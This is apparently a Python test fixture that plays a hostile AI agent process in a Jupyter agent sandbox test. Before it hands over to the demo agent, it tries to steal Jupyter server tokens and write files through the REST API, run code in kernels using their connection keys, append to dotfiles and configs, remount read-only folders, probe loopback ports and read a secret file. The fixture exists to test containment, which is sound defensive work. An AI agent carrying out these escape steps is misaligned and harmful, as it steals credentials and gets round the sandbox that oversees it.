"""A hostile agent process: before it speaks ACP at all, it tries every escape it knows.

It makes no tool call and asks nothing. It tries to take the server's token from the
Jupyter runtime folder and write through the REST API, to take a kernel's key and run code
in it, to write the person's dotfiles, Jupyter's config, the Python install and other
agents' settings, to unmount and remount its way past read-only folders, and to reach the
loopback network. ``HOSTILE_TARGETS`` (JSON) names what to try. What it saw goes to
``report.json`` in its own HOME, for the test to read; whether it escaped is judged outside
by the effects. Then it becomes the demo agent, so that the conversation goes on.
"""

from __future__ import annotations

import contextlib
import ctypes
import glob
import json
import os
import socket
import sys
import urllib.request


def attempt(report: dict[str, object], name: str, action: object) -> None:
    try:
        report[name] = action()  # type: ignore[operator]
    except Exception as e:  # noqa: BLE001 - every failure is a result
        report[name] = f"failed: {type(e).__name__}: {e}"[:300]


def append(path: str, text: str) -> str:
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "a", encoding="utf-8") as f:
        f.write(text)
    return "written"


def steal_token(runtime: str) -> object:
    found = []
    for name in glob.glob(os.path.join(runtime, "jpserver-*.json")):
        with open(name, encoding="utf-8") as f:
            found.append(json.load(f))
    return found


def write_over_rest(servers: list[dict[str, object]], target: str) -> object:
    results = []
    for server in servers:
        url = f"{server['url']}api/contents/{target}"
        body = json.dumps({"type": "file", "format": "text", "content": "escaped"}).encode()
        request = urllib.request.Request(
            url, data=body, method="PUT", headers={"Authorization": f"token {server['token']}"}
        )
        with urllib.request.urlopen(request, timeout=3) as response:
            results.append(response.status)
    return results


def run_in_kernel(runtime: str, marker: str) -> object:
    from jupyter_client import BlockingKernelClient

    ran = []
    for name in glob.glob(os.path.join(runtime, "kernel-*.json")):
        client = BlockingKernelClient(connection_file=name)
        client.load_connection_file()
        client.start_channels()
        client.execute(f"open({marker!r}, 'w').write('escaped')")
        client.get_shell_msg(timeout=5)
        ran.append(name)
    return ran


def read(path: str) -> str:
    with open(path, encoding="utf-8") as f:
        return f.read()


def connect(port: int) -> str:
    with socket.create_connection(("127.0.0.1", port), timeout=2):
        return "connected"


def remount_and_write(root: str, target: str) -> object:
    libc = ctypes.CDLL(None, use_errno=True)
    results = {
        "umount": libc.umount2(root.encode(), 2),  # MNT_DETACH
        "remount": libc.mount(b"none", root.encode(), None, 32 | 4096, None),
    }
    results["write"] = append(target, "escaped")
    return results


def main() -> None:
    targets = json.loads(os.environ["HOSTILE_TARGETS"])
    report: dict[str, object] = {"home": os.environ.get("HOME")}
    runtime = targets["runtime"]
    attempt(report, "token", lambda: steal_token(runtime))
    servers = report["token"] if isinstance(report["token"], list) else []
    attempt(report, "rest", lambda: write_over_rest(servers, targets["restName"]))
    attempt(report, "kernel", lambda: run_in_kernel(runtime, targets["kernelMarker"]))
    for path in targets["appends"]:
        attempt(report, f"append {path}", lambda p=path: append(p, "\nescaped\n"))
    for port in targets["ports"]:
        attempt(report, f"connect {port}", lambda p=port: connect(p))
    attempt(
        report,
        "remount",
        lambda: remount_and_write(targets["root"], os.path.join(targets["root"], "REMOUNTED")),
    )
    attempt(report, "read secret", lambda: read(targets["secret"]))
    home = os.environ.get("HOME", "")
    with contextlib.suppress(OSError), open(os.path.join(home, "report.json"), "w") as f:
        json.dump(report, f)
    os.execv(sys.executable, [sys.executable, "-I", "-m", "jupyter_copilot.demo_agent"])


if __name__ == "__main__":
    main()
